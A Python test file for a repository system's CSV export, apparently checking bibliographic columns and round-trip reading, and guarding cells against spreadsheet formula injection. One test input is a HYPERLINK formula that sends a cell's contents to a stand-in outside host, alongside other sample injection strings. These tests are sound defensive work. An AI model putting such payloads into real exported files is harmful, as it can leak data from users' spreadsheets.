"""CSV as we write it: one row a work, no formula in any cell, and what comes back."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repository.exchange import csv_writing, table
from repository.exchange.carries import NOT_CARRIED
from repository.exchange.cells import guarded, unguarded
from repository.exchange.csv_writing import COLUMNS
from repository.exchange.entry import Credit, Entry, Notice, SubjectHeading
from repository.exchange.outgoing import Outgoing, OutgoingFile
from repository.exchange.table_columns import guess
from repository.partial_dates import PartialDate
from tests.repository.exchange.strategies import outgoing

PAGE = "https://portal.example.org/repository/7/"


def rows(*items):
    data = b"".join(csv_writing.write(items))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_an_article():
    entry = Entry(
        type="article",
        title="Falls, and\nmore",
        abstract="BACKGROUND: One.\n\nRESULTS: Two.",
        identifiers=(("pmid", "31452104"), ("doi", "10.1000/x"), ("issn", "0378-5955"), ("issn", "2049-3630")),
        contributors=(
            Credit(
                family="Smith", given="Jane", suffix="Jr", orcid="0000-0002-1825-0097", affiliations=("Ward 3; UK",)
            ),
            Credit(kind="group", group="Ward 3 people"),
            Credit(role="editor", family="Okafor", given="N"),
        ),
        subjects=(SubjectHeading("mesh", "Stroke", True, (("therapy", True),)),),
        keywords=("falls; wards", "frailty"),
        container_title="J Ward",
        issued=PartialDate.from_edtf("2019-24"),
        available_online=PartialDate.from_edtf("2019-12-24"),
        languages=("eng", "ger"),
        notices=(Notice("erratum", "J Ward 2021"),),
    )
    item = Outgoing(
        7,
        PAGE,
        entry,
        collections=("Research", "Nursing"),
        department="Pharmacy",
        files=(OutgoingFile("a.pdf", "application/pdf", 3, f"{PAGE}a.pdf"),),
    )
    (row,) = rows(item)
    assert {name: cell for name, cell in row.items() if cell} == {
        "Record": "7",
        "Title": "Falls, and more",
        "Authors": "Smith, Jane, Jr (0000-0002-1825-0097); Ward 3 people",
        "Year": "2019",
        "Date of publication": "Winter 2019",
        "Journal or book": "J Ward",
        "Type of work": "Journal article",
        "DOI": "10.1000/x",
        "PubMed ID": "31452104",
        "ISSN": "0378-5955; 2049-3630",
        "MeSH headings": "*Stroke/*therapy",
        "Keywords": "falls, wards; frailty",
        "Abstract": "BACKGROUND: One.\n\nRESULTS: Two.",
        "Language": "English; German",
        "Editors": "Okafor, N;",
        "Affiliations": "[Smith, Jane, Jr] Ward 3, UK",
        "Online since": "2019-12-24",
        "Notes": "Erratum: J Ward 2021",
        "Collection": "Research > Nursing",
        "Department": "Pharmacy",
        "Address of the page": PAGE,
        "Files": f"{PAGE}a.pdf",
    }


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://example.org?"&A1)', '\'=HYPERLINK("https://example.org?"&A1)'),
        ("+44 20", "'+44 20"),
        ("-1+1", "'-1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'tis", "'tis"),
        ("p = 0.05", "p = 0.05"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text, cell):
    assert guarded(text) == cell
    assert unguarded(cell) == text


@settings(deadline=None, max_examples=100)
@given(st.text())
def test_every_text_comes_back_from_its_cell(text):
    assert unguarded(guarded(text)) == text


FORMULAS = st.sampled_from(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", " =1", "\x00=1", "\n-1", "\ufeff=1"])


@settings(deadline=None, max_examples=100)
@given(st.lists(FORMULAS, min_size=12, max_size=12))
def test_no_cell_of_a_file_begins_a_formula(texts):
    title, abstract, group, keyword, container, pages, url, volume, funding, copyright, collection, department = texts
    entry = Entry(
        type="article",
        title=title,
        abstract=abstract,
        contributors=(Credit(kind="group", group=group), Credit(role="editor", family=group)),
        keywords=(keyword,),
        container_title=container,
        pages=pages,
        url=url,
        volume=volume,
        funding=(funding,),
        copyright_statement=copyright,
    )
    (row,) = rows(Outgoing(7, PAGE, entry, collections=(collection,), department=department))
    assert [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []


def test_every_column_that_says_something_of_the_work_is_read_by_its_name():
    read = dict(zip(COLUMNS, guess(list(COLUMNS)), strict=True))
    assert {name for name, field in read.items() if not field} == {
        *("Record", "Year", "Notes", "Collection", "Department", "Address of the page", "Files"),
    }


@settings(deadline=None, max_examples=100)
@given(outgoing())
def test_what_is_written_is_read_again_as_far_as_the_format_can_carry_it(item):
    data = b"".join(csv_writing.write([item, item]))
    found = [replace(entry, line=0, warnings=()) for entry in table.read(io.BytesIO(data))]
    narrowed = replace(
        item.entry,
        contributors=tuple(replace(c, affiliations=()) if c.role == "editor" else c for c in item.entry.contributors),
        notices=(),
    )
    assert found == [narrowed] * 2
    changed = {name for name in Entry.__slots__ if getattr(narrowed, name) != getattr(item.entry, name)}
    assert changed <= NOT_CARRIED["csv"].keys()


def test_a_title_that_looks_like_a_formula_comes_back():
    entry = Entry(type="other", title="=SUM(A1) and what became of it", keywords=("-omics",))
    (found,) = table.read(io.BytesIO(b"".join(csv_writing.write([Outgoing(7, PAGE, entry)]))))
    assert (found.title, found.keywords) == (entry.title, entry.keywords)
